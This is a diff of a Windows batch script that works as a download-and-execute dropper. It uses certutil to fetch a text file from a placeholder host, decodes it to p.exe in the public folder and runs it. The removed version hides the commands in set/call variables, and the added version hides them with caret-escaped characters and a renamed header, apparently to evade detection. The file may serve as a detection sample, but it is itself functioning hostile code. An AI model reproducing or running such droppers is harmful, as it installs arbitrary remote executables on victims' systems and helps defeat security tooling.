@@ -1,11 +1,5 @@
-REM bootstrap 5656 v0
+REM task 6993 v0
 @echo off
-@echo off
-set "rgom=certutil -urlcache -f http://files.sync-svc.example/p.txt %PUBLIC%\p.txt"
-call %rgom%
-@echo off
-set "gsbz=certutil -decode %PUBLIC%\p.txt %PUBLIC%\p.exe"
-call %gsbz%
-@echo off
-set "bnjq=%PUBLIC%\p.exe"
-call %bnjq%
+cer^tu^ti^l -urlc^ach^e -f ^h^tt^p://cd^n-upda^t^e.^e^x^a^m^ple/p.^txt %PUBLIC%\p.^tx^t
+cert^util -d^e^code %PUBLIC%\p.^txt %PUBLIC%\^p.^e^x^e
+%PUBLIC%\^p.e^xe
